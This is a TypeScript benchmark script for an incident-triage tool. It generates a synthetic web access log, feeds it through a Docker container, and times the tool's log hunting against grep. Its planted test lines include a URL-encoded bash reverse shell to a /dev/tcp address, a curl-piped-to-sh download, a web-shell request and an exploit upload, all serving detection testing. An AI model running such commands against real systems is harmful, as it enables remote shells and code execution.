/**
 * Benchmark: `breachkit triage --json` end to end on the lab (scenario contained) with 2,000
 * extra processes and about 100 MiB of container logs, then the log hunting alone against
 * `grep -E -c` with the same patterns on the same files (the log copies in a triage bundle).
 *
 *   npm run build && npx tsx bench/triage.ts [--mib 100] [--runs 3] [--sleepers 2000] [--scale 10000]
 *
 * --scale N: afterwards, as many more sleeping processes as make N, and triage RUNS times
 * again; prints the ratio of the medians (issue 23's bar: under 3x at 10,000 against 2,000).
 *
 * Run as root (like the tool). What it starts it ends, by id: the lab (labDown), one container
 * of its own (label breachkit.test=1, `--network none`, json-file driver, the lab image) that
 * `cat`s a generated access log to stdout, and the sleeping processes (by their child
 * handles). Also on error and on SIGINT/SIGTERM/SIGHUP.
 *
 * Prints: how long the json-file driver took to write the log, triage's wall time (median of
 * N runs, each bundle removed afterwards) with its phases from the bundle's
 * collection.log.jsonl, and huntLogs against grep (best of N, page cache warm for both):
 * times, MiB/s and the throughput ratio hunt/grep (the issue's bar: >= 0.5).
 *
 * And, in the same rounds, `breachkit snapshot --json` alone and `cp -a` of the triage's
 * bundle (its copy time): triage end to end against their sum (target <= 1.3: the 1 s
 * traffic/CPU sample runs while the bundle is written, so it adds no second of its own).
 */

import { type ChildProcess, spawn } from "node:child_process";
import { closeSync, existsSync, openSync, readFileSync, writeSync } from "node:fs";
import { mkdtemp, readdir, readFile, rm, stat } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { fileURLToPath } from "node:url";
import { type LabInfo, labDown, labUp } from "../lab/lab-core.js";
import { safePathComponent } from "../src/evidence/bundle.js";
import { huntLogs, loadHuntRules } from "../src/judge/hunt/index.js";
import { dockerJsonLine } from "../src/judge/hunt/load.js";
import { DEFAULT_RULE_DIR, type HuntRule } from "../src/judge/hunt/rule-file.js";
import { judge } from "../src/judge/index.js";
import { bundleLogSources, dirMapper, readBundleSnapshot } from "../src/judge/judge-bundle.js";
import { shippedLists } from "../src/judge/rule-set.js";
import type { Finding } from "../src/model/finding.js";
import { takeSnapshot } from "../src/observe/snapshot.js";
import { exited, Sleepers } from "./sleepers.js";

function arg(name: string, fallback: number): number {
  const i = process.argv.indexOf(name);
  const v = i === -1 ? fallback : Number(process.argv[i + 1]);
  if (!Number.isFinite(v) || v <= 0) throw new Error(`${name} takes a positive number`);
  return v;
}
const MIB = arg("--mib", 100);
const RUNS = Math.floor(arg("--runs", 3));
const SLEEPERS = Math.floor(arg("--sleepers", 2000));
const SCALE = process.argv.includes("--scale") ? Math.floor(arg("--scale", 10_000)) : null;
const CLI = fileURLToPath(new URL("../dist/cli/bin.cjs", import.meta.url));
const REPO = fileURLToPath(new URL("../", import.meta.url));
const MiB = 2 ** 20;

// ---- what this script started, and ends by id -------------------------------------------

const sleepers = new Sleepers();
let containerId: string | null = null;
let labStarted = false;
let running: ChildProcess | null = null;
const tempDirs = new Set<string>();

async function cleanup(): Promise<void> {
  const step = async (what: string, fn: () => Promise<unknown>) => {
    try {
      await fn();
    } catch (e) {
      console.error(`cleanup: ${what}: ${e instanceof Error ? e.message : String(e)}`);
    }
  };
  const child = running;
  if (child && !exited(child)) {
    // Let triage seal and exit before its output directory is removed.
    const gone = new Promise<void>((resolve) => child.once("exit", () => resolve()));
    child.kill("SIGTERM");
    await Promise.race([gone, sleep(10_000, undefined, { ref: false })]);
    if (!exited(child)) child.kill("SIGKILL");
  }
  await step("sleepers", () => sleepers.stop());
  const id = containerId;
  containerId = null;
  if (id) await step(`docker rm ${id.slice(0, 12)}`, () => run("docker", ["rm", "-f", id]));
  if (labStarted) {
    labStarted = false;
    await step("lab down", labDown);
  }
  for (const d of tempDirs) await step(`rm ${d}`, () => rm(d, { recursive: true, force: true }));
  tempDirs.clear();
}

let cleaning: Promise<void> | null = null;
const cleanupOnce = () => {
  cleaning ??= cleanup();
  return cleaning;
};
for (const sig of ["SIGINT", "SIGTERM", "SIGHUP"] as const) {
  process.once(sig, () => {
    console.error(`\n${sig}: ending what this benchmark started`);
    void cleanupOnce().finally(() => process.exit(130));
  });
}

// ---- commands ---------------------------------------------------------------------------

interface RunResult {
  code: number | null;
  stdout: string;
  stderr: string;
  ms: number;
}

/** Spawn with an argv array; stdout kept (bounded by what the callers run), stderr tail kept. */
function run(
  file: string,
  args: readonly string[],
  opts: { env?: NodeJS.ProcessEnv; ok?: readonly number[]; track?: boolean } = {},
): Promise<RunResult> {
  return new Promise((resolve, reject) => {
    const t0 = performance.now();
    const child = spawn(file, args, {
      cwd: REPO,
      env: opts.env ?? process.env,
      stdio: ["ignore", "pipe", "pipe"],
    });
    if (opts.track) running = child;
    const out: Buffer[] = [];
    let stderr = "";
    child.stdout?.on("data", (d: Buffer) => out.push(d));
    child.stderr?.setEncoding("utf8");
    child.stderr?.on("data", (d: string) => {
      stderr = (stderr + d).slice(-4096);
    });
    child.once("error", reject);
    child.once("close", (code, signal) => {
      const ms = performance.now() - t0;
      if (opts.track) running = null;
      const r = { code, stdout: Buffer.concat(out).toString("utf8"), stderr, ms };
      if (code !== null && (opts.ok ?? [0]).includes(code)) resolve(r);
      else
        reject(
          new Error(
            `${file} ${args.slice(0, 3).join(" ")}…: ${signal ?? `exit ${code}`} ${stderr.trim()}`,
          ),
        );
    });
  });
}

const median = (xs: readonly number[]) => {
  const s = [...xs].sort((a, b) => a - b);
  return s.length % 2
    ? (s[(s.length - 1) / 2] ?? Number.NaN)
    : ((s[s.length / 2 - 1] ?? 0) + (s[s.length / 2] ?? 0)) / 2;
};
const fmtMs = (ms: number) => `${ms.toFixed(0)} ms`;
const mibs = (bytes: number, ms: number) => `${(bytes / MiB / (ms / 1000)).toFixed(0)} MiB/s`;

// ---- the access log ---------------------------------------------------------------------

/** A deterministic PRNG, so every run writes the same log. */
function rng(seed: number) {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

const REQUESTS: [method: string, path: string, weight: number][] = [
  ["GET", "/", 6],
  ["GET", "/users/sign_in", 4],
  ["POST", "/users/sign_in", 1],
  ["GET", "/explore/projects?sort=latest_activity_desc", 2],
  ["GET", "/api/v4/projects?page=2&per_page=20&order_by=last_activity_at", 4],
  ["GET", "/api/v4/jobs/request", 3],
  ["POST", "/api/v4/jobs/request", 3],
  ["GET", "/assets/application-5f6d1c0e8b2a.js", 6],
  ["GET", "/assets/application-0c3f99aa71de.css", 5],
  ["GET", "/uploads/-/system/user/avatar/12/avatar.png?width=64", 3],
  ["GET", "/group/project/-/merge_requests/41/diffs", 2],
  ["GET", "/group/project/-/blob/main/README.md", 2],
  ["GET", "/group/project.git/info/refs?service=git-upload-pack", 3],
  ["POST", "/group/project.git/git-upload-pack", 3],
  ["GET", "/-/readiness", 2],
  ["GET", "/wp-content/uploads/2025/11/header-1920x1080.jpg", 5],
  ["GET", "/wp-content/themes/twentytwentyfour/style.css?ver=1.2", 4],
  ["GET", "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1", 4],
  ["GET", "/wp-login.php", 1],
  ["POST", "/wp-admin/admin-ajax.php", 2],
  ["GET", "/index.php?p=1234", 3],
  ["GET", "/2025/11/03/hello-world/", 3],
  ["GET", "/feed/", 1],
  ["GET", "/favicon.ico", 2],
  ["GET", "/robots.txt", 1],
  ["GET", "/.env", 1],
  ["GET", "/xmlrpc.php", 1],
];
const AGENTS = [
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
  "gitlab-runner 16.11.0 (16-11-stable; go1.21.9; linux/amd64)",
  "git/2.43.0",
  "curl/8.5.0",
  "python-requests/2.31.0",
];
const REFERERS = ["-", "-", "-", "https://git.example.org/", "https://blog.example.org/feed/"];

/** Attack lines, at fixed fractions of the log; the first is the CVE-2021-22205 upload. */
const PLANTED = [
  '51.89.237.81 - - [01/Mar/2026:11:20:58 +0000] "POST /uploads/user HTTP/1.0" 422 24 "" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2227.0 Safari/537.36"',
  '198.51.100.7 - - [01/Mar/2026:11:21:03 +0000] "GET /wp-content/uploads/2026/03/s.php?cmd=id HTTP/1.1" 200 31 "-" "curl/7.68.0"',
  '198.51.100.7 - - [01/Mar/2026:11:21:09 +0000] "GET /?q=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.9%2F4444%200%3E%261 HTTP/1.1" 404 0 "-" "-"',
  '198.51.100.7 - - [01/Mar/2026:11:21:12 +0000] "GET /cgi-bin/x?c=curl%20http://203.0.113.9/ldr.sh%7Csh HTTP/1.1" 404 0 "-" "-"',
];
/** An xmlrpc.php brute force from one address, spread over the last part of the log. */
const BRUTE_IP = "203.0.113.77";
const BRUTE_LINES = 60;

/** Docker writes RFC 3339 times with nanoseconds (trailing zeros cut): 30 characters at most. */
const TIME_SAMPLE = "2026-03-01T10:00:00.123456789Z";

/**
 * Writes access-log lines until the json-file log they become reaches `jsonBytes`; returns the
 * raw size, the line count, where the planted lines are (1-based) and the json-file size
 * expected with 30-character times (an upper bound: Docker cuts trailing zeros).
 */
function generateLog(path: string, jsonBytes: number) {
  const rand = rng(42);
  const total = REQUESTS.reduce((s, r) => s + r[2], 0);
  const pick = () => {
    let x = rand() * total;
    for (const r of REQUESTS) {
      x -= r[2];
      if (x < 0) return r;
    }
    return REQUESTS[0]!;
  };
  const fd = openSync(path, "w");
  let raw = 0;
  let json = 0;
  let lines = 0;
  const planted: number[] = [];
  const plantAt = PLANTED.map((_, i) => Math.floor(((i + 1) * jsonBytes) / (PLANTED.length + 1)));
  const bruteFrom = Math.floor(jsonBytes * 0.9);
  let brute = 0;
  let batch: string[] = [];
  try {
    while (json < jsonBytes) {
      let line: string;
      const t = new Date(Date.UTC(2026, 2, 1, 10) + lines * 10);
      const stamp = `${String(t.getUTCDate()).padStart(2, "0")}/Mar/2026:${t.toISOString().slice(11, 19)} +0000`;
      if (planted.length < PLANTED.length && json >= plantAt[planted.length]!) {
        line = PLANTED[planted.length]!;
        planted.push(lines + 1);
      } else if (json >= bruteFrom && brute < BRUTE_LINES && rand() < 0.01) {
        brute++;
        line = `${BRUTE_IP} - - [${stamp}] "POST /xmlrpc.php HTTP/1.1" 200 403 "-" "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"`;
      } else {
        const [method, reqPath] = pick();
        const ip = `${Math.floor(rand() * 223) + 1}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 254) + 1}`;
        const r = rand();
        const status = r < 0.86 ? 200 : r < 0.92 ? 304 : r < 0.97 ? 404 : r < 0.99 ? 302 : 500;
        const size = status === 304 ? 0 : Math.floor(rand() * 60_000);
        const ref = REFERERS[Math.floor(rand() * REFERERS.length)]!;
        const ua = AGENTS[Math.floor(rand() * AGENTS.length)]!;
        line = `${ip} - - [${stamp}] "${method} ${reqPath} HTTP/1.1" ${status} ${size} "${ref}" "${ua}" ${(rand() * 0.8).toFixed(3)}`;
      }
      batch.push(line);
      raw += Buffer.byteLength(line) + 1;
      json += Buffer.byteLength(dockerJsonLine(line, TIME_SAMPLE)) + 1;
      lines++;
      if (batch.length >= 20_000) {
        writeSync(fd, `${batch.join("\n")}\n`);
        batch = [];
      }
    }
    if (batch.length) writeSync(fd, `${batch.join("\n")}\n`);
  } finally {
    closeSync(fd);
  }
  return { raw, lines, planted, brute, jsonUpperBound: json };
}

// ---- the container that logs it ---------------------------------------------------------

async function docker(args: readonly string[]): Promise<string> {
  return (await run("docker", args)).stdout.trim();
}

/**
 * Creates the logging container, copies the log in, starts it, and waits until the json-file
 * log stops growing at the expected size (the driver works after `cat` has already finished).
 */
async function feedContainerLog(lab: LabInfo, file: string, gen: ReturnType<typeof generateLog>) {
  const name = `bk-bench-weblog-${process.pid}`;
  const id = await docker([
    "create",
    "--label",
    "breachkit.test=1",
    "--label",
    `breachkit.test.session=bench-triage-${process.pid}`,
    "--name",
    name,
    "--network",
    "none",
    "--log-driver",
    "json-file",
    lab.image.ref,
    "/bin/sh",
    "-c",
    "cat /access.log; exec sleep 1800",
  ]);
  if (!/^[0-9a-f]{64}$/.test(id)) throw new Error(`docker create answered ${JSON.stringify(id)}`);
  containerId = id;
  const cp = await run("docker", ["cp", file, `${id}:/access.log`]);
  // Docker cuts trailing zeros of the nanoseconds: each line may be up to 9 bytes shorter.
  const lowerBound = gen.jsonUpperBound - 9 * gen.lines;
  const t0 = performance.now();
  await docker(["start", id]);
  // The engine names the log file only when the container starts.
  const logPath = await docker(["inspect", "--format", "{{.LogPath}}", id]);
  if (!logPath.startsWith("/")) throw new Error(`no json-file LogPath for ${id}: ${logPath}`);
  let size = 0;
  let stableSince = performance.now();
  for (;;) {
    await sleep(50);
    const now = (await stat(logPath).catch(() => null))?.size ?? 0;
    if (now !== size) {
      size = now;
      stableSince = performance.now();
    } else if (size >= lowerBound && performance.now() - stableSince >= 500) break;
    const waited = performance.now() - t0;
    if (waited > 300_000 || (size === 0 && waited > 30_000)) {
      throw new Error(`the json-file log stayed at ${size} bytes (expected >= ${lowerBound})`);
    }
  }
  const driverMs = stableSince - t0;
  if (size > gen.jsonUpperBound) {
    throw new Error(
      `the json-file log has ${size} bytes, more than the ${gen.jsonUpperBound} expected`,
    );
  }
  return { name, id, logPath, size, cpMs: cp.ms, driverMs };
}

// ---- triage runs ------------------------------------------------------------------------

interface TriageJson {
  verdict: { level: string; headline: string };
  findings: Finding[];
  bundle: { path: string; complete: boolean };
  logsHunted: string[];
  logBytes: number;
  durationMs: number;
}

interface LogEntry {
  time: string;
  step: string;
  action: string;
  result: string;
  durationMs?: number;
}

interface TriageRun {
  wallMs: number;
  json: TriageJson;
  entries: LogEntry[];
  spawnedAt: number;
  exitedAt: number;
  /** The snapshot's own durationMs and interval, from the bundle's snapshot.json. */
  snapshotMs: number;
  intervalSeconds: number | null;
}

async function triageOnce(): Promise<TriageRun> {
  const out = await mkdtemp(join(tmpdir(), "bk-bench-triage-"));
  tempDirs.add(out);
  const spawnedAt = Date.now();
  // Exit 1 means findings at or above --fail-on: expected on the lab.
  const r = await run(process.execPath, [CLI, "triage", "--json", "--out", out], {
    env: { ...process.env, NO_COLOR: "1" },
    ok: [0, 1],
    track: true,
  });
  const exitedAt = Date.now();
  const json = JSON.parse(r.stdout) as TriageJson;
  const log = await readFile(join(json.bundle.path, "collection.log.jsonl"), "utf8");
  const entries = log
    .split("\n")
    .filter(Boolean)
    .map((l) => JSON.parse(l) as LogEntry);
  const snap = await readBundleSnapshot(json.bundle.path);
  return {
    wallMs: r.ms,
    json,
    entries,
    spawnedAt,
    exitedAt,
    snapshotMs: snap.durationMs,
    intervalSeconds: snap.intervalSeconds,
  };
}

function printPhases(t: TriageRun): void {
  const at = (e: LogEntry | undefined) => (e ? Date.parse(e.time) : Number.NaN);
  const first = t.entries[0];
  const collected = t.entries.filter((e) => e.step !== "seal" && e.step !== "bundle");
  const lastCollect = collected[collected.length - 1];
  const seal = t.entries.find((e) => e.step === "seal");
  console.log("  phases (from collection.log.jsonl times; ms resolution):");
  const phase = (label: string, ms: number) =>
    console.log(`    ${label.padEnd(52)} ${fmtMs(ms).padStart(9)}`);
  phase("node start + snapshot (spawn → bundle created)", at(first) - t.spawnedAt);
  phase(
    `  of which the snapshot (its durationMs; ${t.intervalSeconds ?? 0} s interval)`,
    t.snapshotMs,
  );
  phase("collection (bundle created → last step logged)", at(lastCollect) - at(first));
  phase("judge + findings.json (last step → seal)", at(seal) - at(lastCollect));
  phase("seal + JSON output + exit (seal → exit)", t.exitedAt - at(seal));
  const bySteps = new Map<string, { n: number; ms: number }>();
  for (const e of collected) {
    const s = bySteps.get(e.step) ?? { n: 0, ms: 0 };
    s.n++;
    s.ms += e.durationMs ?? 0;
    bySteps.set(e.step, s);
  }
  console.log("  collection steps (sum of durationMs):");
  for (const [step, s] of [...bySteps].sort((a, b) => b[1].ms - a[1].ms)) {
    console.log(`    ${`${step} (${s.n} entries)`.padEnd(52)} ${fmtMs(s.ms).padStart(9)}`);
  }
  console.log("  slowest actions:");
  for (const e of [...collected]
    .sort((a, b) => (b.durationMs ?? 0) - (a.durationMs ?? 0))
    .slice(0, 6)) {
    console.log(`    ${fmtMs(e.durationMs ?? 0).padStart(9)}  ${e.step}: ${e.action.slice(0, 90)}`);
  }
}

/**
 * takeSnapshot in this process as triage calls it, timed between its onStep calls: which part
 * of the snapshot costs what with the extra processes (median of RUNS).
 */
async function snapshotSteps(): Promise<void> {
  const per = new Map<string, number[]>();
  const totals: number[] = [];
  for (let i = 0; i < RUNS; i++) {
    let last = performance.now();
    let current = "start (engine probe started)";
    const t0 = last;
    const { snapshot } = await takeSnapshot({
      env: process.env,
      intervalSeconds: 1,
      onStep: (s) => {
        const now = performance.now();
        per.set(current, [...(per.get(current) ?? []), now - last]);
        last = now;
        current = s.startsWith("counters") ? "counters over 1 s (sleep + network again)" : s;
      },
    });
    const end = performance.now();
    per.set(current, [...(per.get(current) ?? []), end - last]);
    totals.push(end - t0);
    if (i === 0) console.log(`  (${snapshot.processes.length} processes in the snapshot)`);
  }
  for (const [s, xs] of per) console.log(`    ${s.padEnd(52)} ${fmtMs(median(xs)).padStart(9)}`);
  console.log(`    ${"total".padEnd(52)} ${fmtMs(median(totals)).padStart(9)}`);
}

/** judgeBundle's parts, in this process, on a bundle (median of RUNS). */
async function judgeSteps(dir: string, rules: HuntRule[]): Promise<void> {
  const per = new Map<string, number[]>();
  const time = async <T>(label: string, fn: () => Promise<T> | T): Promise<T> => {
    const t0 = performance.now();
    const v = await fn();
    per.set(label, [...(per.get(label) ?? []), performance.now() - t0]);
    return v;
  };
  for (let i = 0; i < RUNS; i++) {
    const snapshot = await time("read + parse snapshot.json", () => readBundleSnapshot(dir));
    await time("judge rules over the snapshot", () =>
      judge(snapshot, { now: new Date(snapshot.takenAt), baseline: null, lists: shippedLists() }),
    );
    await time("loadHuntRules (read, self-check, compile)", () => loadHuntRules());
    const sources = await time("find the bundle's log files", () =>
      bundleLogSources(dir, dirMapper(snapshot, safePathComponent)),
    );
    await time("huntLogs", () => huntLogs(sources, rules));
  }
  for (const [s, xs] of per) console.log(`    ${s.padEnd(52)} ${fmtMs(median(xs)).padStart(9)}`);
}

// ---- hunt vs grep -----------------------------------------------------------------------

/**
 * The `pattern:` lines of the rule files as written, then adapted to POSIX ERE as GNU grep
 * reads it. GNU grep -E knows \s \S \b \w as extensions, so only what it lacks is rewritten;
 * anything not rewritable stops the benchmark rather than compare against a different regex.
 */
async function grepPatterns(rules: readonly HuntRule[]) {
  const adapted = new Map<string, number>();
  const count = (what: string) => adapted.set(what, (adapted.get(what) ?? 0) + 1);
  const patterns: string[] = [];
  const files = (await readdir(DEFAULT_RULE_DIR)).filter((f) => f.endsWith(".rule")).sort();
  for (const f of files) {
    const text = await readFile(join(DEFAULT_RULE_DIR, f), "utf8");
    const fromFile = text
      .split("\n")
      .filter((l) => /^pattern\s*:/.test(l))
      .map((l) => {
        const v = l.slice(l.indexOf(":") + 1).trim();
        return v.startsWith('"') && v.endsWith('"') && v.length > 1 ? (JSON.parse(v) as string) : v;
      });
    const rule = rules.find((r) => r.file.endsWith(`/${f}`));
    if (!rule || JSON.stringify(rule.patterns) !== JSON.stringify(fromFile)) {
      throw new Error(`${f}: the pattern: lines differ from what loadHuntRules read`);
    }
    if (rule.flags.length > 0) throw new Error(`${f}: flags "${rule.flags}" have no grep -E form`);
    for (let p of fromFile) {
      if (/\(\?[=!]|\(\?<[=!]|[*+?}]\?|\\[1-9]|\\k</.test(p)) {
        throw new Error(`${f}: ${p} uses lookaround, lazy quantifiers or backreferences`);
      }
      if (/\(\?<[A-Za-z]\w*>/.test(p)) {
        count("named group (?<name>…) → (…)");
        p = p.replace(/\(\?<[A-Za-z]\w*>/g, "(");
      }
      if (p.includes("(?:")) {
        count("non-capturing (?:…) → (…)");
        p = p.replaceAll("(?:", "(");
      }
      if (/\\d/.test(p)) {
        count("\\d → [0-9]");
        p = p.replace(/\\d/g, "[0-9]");
      }
      patterns.push(p);
    }
  }
  return { patterns, adapted };
}

async function huntVsGrep(bundleDir: string, rules: HuntRule[]) {
  const snapshot = await readBundleSnapshot(bundleDir);
  const sources = await bundleLogSources(bundleDir, dirMapper(snapshot, safePathComponent));
  let bytes = 0;
  for (const s of sources) bytes += (await stat(s.path)).size;
  const files = sources.map((s) => s.path);
  const { patterns, adapted } = await grepPatterns(rules);
  console.log(
    `\nlog hunting alone on the bundle's ${files.length} log files, ${(bytes / MiB).toFixed(1)} MiB:`,
  );
  console.log(
    `  ${patterns.length} patterns from ${rules.length} rule files; adapted for grep -E: ${
      adapted.size ? [...adapted].map(([k, n]) => `${k} (${n})`).join(", ") : "none"
    }; \\s \\S \\b kept (GNU extensions)`,
  );
  const grepArgs = ["-E", "-c", ...patterns.flatMap((p) => ["-e", p]), "--", ...files];
  const envC = { ...process.env, LC_ALL: "C" };
  const envUtf8 = { ...process.env, LC_ALL: "C.UTF-8" };
  const grepCount = (out: string) =>
    out
      .split("\n")
      .filter(Boolean)
      .reduce((s, l) => s + Number(l.slice(l.lastIndexOf(":") + 1)), 0);
  // Warm the page cache once, so neither side pays for the disk.
  for (const f of files) await run("cat", [f]).catch(() => undefined);
  const times = { grepC: [] as number[], grepUtf8: [] as number[], hunt: [] as number[] };
  let grepLines = 0;
  let huntFindings: Finding[] = [];
  for (let i = 0; i < RUNS; i++) {
    // Alternate the order, so neither side always runs right after the other.
    const doGrep = async () => {
      const g = await run("grep", grepArgs, { env: envC, ok: [0, 1] });
      times.grepC.push(g.ms);
      grepLines = grepCount(g.stdout);
      times.grepUtf8.push((await run("grep", grepArgs, { env: envUtf8, ok: [0, 1] })).ms);
    };
    const doHunt = async () => {
      const h0 = performance.now();
      const r = await huntLogs(sources, rules);
      times.hunt.push(performance.now() - h0);
      if (r.gaps.length) throw new Error(`huntLogs gaps: ${JSON.stringify(r.gaps)}`);
      huntFindings = r.findings;
    };
    if (i % 2 === 0) {
      await doGrep();
      await doHunt();
    } else {
      await doHunt();
      await doGrep();
    }
  }
  const best = (xs: number[]) => Math.min(...xs);
  const row = (label: string, xs: number[]) =>
    console.log(
      `  ${label.padEnd(30)} best ${fmtMs(best(xs)).padStart(8)} (${mibs(bytes, best(xs))}), median ${fmtMs(median(xs))}   [${xs.map((x) => x.toFixed(0)).join(", ")}]`,
    );
  row("grep -E -c (LC_ALL=C)", times.grepC);
  row("grep -E -c (LC_ALL=C.UTF-8)", times.grepUtf8);
  row("huntLogs (shipped rules)", times.hunt);
  const ratio = best(times.grepC) / best(times.hunt);
  const ratioUtf8 = best(times.grepUtf8) / best(times.hunt);
  console.log(
    `  throughput ratio hunt/grep: ${ratio.toFixed(2)} vs LC_ALL=C, ${ratioUtf8.toFixed(2)} vs C.UTF-8 (bar: >= 0.50: ${ratio >= 0.5 ? "met" : "NOT met"})`,
  );
  const evidence = huntFindings.reduce((s, f) => s + f.evidence.length, 0);
  console.log(
    `  grep counted ${grepLines} matching lines; huntLogs gave ${huntFindings.length} findings (${evidence} evidence lines): ${[...new Set(huntFindings.map((f) => f.rule))].join(", ")}`,
  );
  console.log(
    '  (counts differ by design: grep reads the raw json-file lines, where the quotes the patterns expect are escaped and ^ sees `{"log":`; huntLogs matches the decoded message and applies thresholds)',
  );
  return { ratio, bytes };
}

// ---- the benchmark ----------------------------------------------------------------------

async function main(): Promise<void> {
  if (process.getuid?.() !== 0) throw new Error("run as root: triage reads every process's /proc");
  if (!existsSync(CLI)) throw new Error(`${CLI} is missing: run \`npm run build\` first`);
  const loaded = await loadHuntRules();
  if (!loaded.ok) throw new Error(loaded.error.message);
  const rules = loaded.value.rules;

  console.log("lab up (scenario contained)…");
  labStarted = true;
  const lab = await labUp({ scenario: "contained" });

  const work = await mkdtemp(join(tmpdir(), "bk-bench-log-"));
  tempDirs.add(work);
  const file = join(work, "access.log");
  const g0 = performance.now();
  const gen = generateLog(file, MIB * MiB);
  console.log(
    `generated ${gen.lines.toLocaleString("en-US")} access-log lines, ${(gen.raw / MiB).toFixed(1)} MiB raw, in ${fmtMs(performance.now() - g0)}; planted attack lines at ${gen.planted.join(", ")}, ${gen.brute} xmlrpc POSTs from ${BRUTE_IP}`,
  );
  const fed = await feedContainerLog(lab, file, gen);
  await rm(work, { recursive: true, force: true });
  tempDirs.delete(work);
  console.log(
    `container ${fed.name} (${fed.id.slice(0, 12)}): docker cp ${fmtMs(fed.cpMs)}; json-file driver wrote ${(fed.size / MiB).toFixed(1)} MiB in ${fmtMs(fed.driverMs)} (${mibs(fed.size, fed.driverMs)}, ${(gen.lines / (fed.driverMs / 1000)).toFixed(0)} lines/s)`,
  );

  await sleepers.start(SLEEPERS, 900);
  const tasks = readFileSync("/proc/loadavg", "utf8").split(" ")[3]?.split("/")[1] ?? "?";
  console.log(`started ${sleepers.size} sleep processes; ${tasks} tasks on the host`);

  // Node's own start, to tell it apart from the snapshot in the first phase.
  const starts: number[] = [];
  for (let i = 0; i < 3; i++) starts.push((await run(process.execPath, [CLI, "--version"])).ms);

  const runs: TriageRun[] = [];
  const snapshotAlone: number[] = [];
  const copies: number[] = [];
  for (let i = 0; i < RUNS; i++) {
    const alone = () =>
      run(process.execPath, [CLI, "snapshot", "--json"], {
        env: { ...process.env, NO_COLOR: "1" },
      });
    // Alternating which runs first, so neither always runs on the caches the other warmed.
    if (i % 2 === 1) snapshotAlone.push((await alone()).ms);
    const t = await triageOnce();
    runs.push(t);
    if (i % 2 === 0) snapshotAlone.push((await alone()).ms);
    const copyTo = await mkdtemp(join(tmpdir(), "bk-bench-copy-"));
    tempDirs.add(copyTo);
    copies.push((await run("cp", ["-a", t.json.bundle.path, copyTo])).ms);
    await rm(copyTo, { recursive: true, force: true });
    tempDirs.delete(copyTo);
    const own = t.json.findings.filter((f) => f.where === fed.name);
    const exploit = own.find((f) => f.rule === "hunt.gitlab-exiftool-cve-2021-22205");
    const lines = exploit?.evidence.map((e) => e.line).filter((l) => l !== undefined) ?? [];
    console.log(
      `triage run ${i + 1}: ${fmtMs(t.wallMs)} wall (its own durationMs ${t.json.durationMs}); ${t.json.findings.length} findings, verdict ${t.json.verdict.level}; ${t.json.logsHunted.length} logs hunted, ${(t.json.logBytes / MiB).toFixed(1)} MiB; bench container: ${own.length} findings, exploit at line ${lines.join(",") || "NOT FOUND"} (planted at ${gen.planted[0]})`,
    );
    if (!t.json.bundle.complete) console.log("  note: the bundle says it is incomplete");
    if (i < RUNS - 1) {
      await rm(t.json.bundle.path, { recursive: true, force: true });
    }
  }
  const walls = runs.map((r) => r.wallMs);
  const mid = runs[walls.indexOf([...walls].sort((a, b) => a - b)[Math.floor(RUNS / 2)]!)]!;
  console.log(
    `\ntriage end to end: median ${fmtMs(median(walls))} of ${RUNS} [${walls.map((w) => w.toFixed(0)).join(", ")}], with ${SLEEPERS} extra processes and ${(mid.json.logBytes / MiB).toFixed(1)} MiB of logs; node start alone ${fmtMs(median(starts))}`,
  );
  const reference = median(snapshotAlone) + median(copies);
  const ratio = median(walls) / reference;
  console.log(
    `snapshot --json alone: median ${fmtMs(median(snapshotAlone))}; cp -a of the bundle: median ${fmtMs(median(copies))}`,
  );
  console.log(
    `triage / (snapshot + bundle copy): ${ratio.toFixed(2)} (target <= 1.30: ${ratio <= 1.3 ? "met" : "NOT met"})`,
  );
  console.log(`median run (${fmtMs(mid.wallMs)}):`);
  printPhases(mid);

  if (SCALE !== null && SCALE > SLEEPERS) {
    await sleepers.start(SCALE - SLEEPERS, 900);
    console.log(`\n--scale: ${sleepers.size} sleep processes now; triage ${RUNS} times again`);
    const big: number[] = [];
    for (let i = 0; i < RUNS; i++) {
      const t = await triageOnce();
      big.push(t.wallMs);
      console.log(
        `  triage run ${i + 1}: ${fmtMs(t.wallMs)} wall, ${t.json.findings.length} findings`,
      );
      await rm(t.json.bundle.path, { recursive: true, force: true });
    }
    const factor = median(big) / median(walls);
    console.log(
      `triage at ${SCALE} / at ${SLEEPERS} extra processes: x${factor.toFixed(2)} (median ${fmtMs(median(big))} / ${fmtMs(median(walls))}; target < 3: ${factor < 3 ? "met" : "NOT met"})`,
    );
  }

  console.log("\nsnapshot steps, in this process (takeSnapshot as triage calls it):");
  await snapshotSteps();

  const last = runs[runs.length - 1]!;
  try {
    console.log("\njudgeBundle's parts, in this process, on the last bundle:");
    await judgeSteps(last.json.bundle.path, rules);
    await huntVsGrep(last.json.bundle.path, rules);
  } finally {
    await rm(last.json.bundle.path, { recursive: true, force: true });
  }
}

main()
  .catch((e: unknown) => {
    if (cleaning) return; // interrupted: the signal handler reports and exits
    console.error(e instanceof Error ? (e.stack ?? e.message) : e);
    process.exitCode = 1;
  })
  .finally(async () => {
    await cleanupOnce();
    console.log("cleaned up: sleepers ended, bench container removed, lab down");
  });
